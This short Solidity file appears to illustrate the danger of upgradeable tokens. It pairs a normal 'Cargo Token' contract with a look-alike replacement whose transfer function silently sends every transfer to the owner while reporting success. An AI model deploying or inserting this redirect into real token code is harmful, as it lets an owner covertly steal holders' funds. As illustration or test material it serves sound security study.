// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {UpgradeableToken} from "./UpgradeableToken.sol";

/// The code behind a token that somebody else may change at any time.
contract CargoToken is UpgradeableToken {
    function name() external pure override returns (string memory) {
        return "Cargo Token";
    }

    function symbol() external pure override returns (string memory) {
        return "CARGO";
    }
}

/// What it becomes while nobody looks: every transfer goes to its owner.
contract TakenCargoToken is UpgradeableToken {
    function name() external pure override returns (string memory) {
        return "Cargo Token";
    }

    function symbol() external pure override returns (string memory) {
        return "CARGO";
    }

    function transfer(address, uint256 value) external override returns (bool) {
        _move(msg.sender, owner, value);
        return true;
    }
}
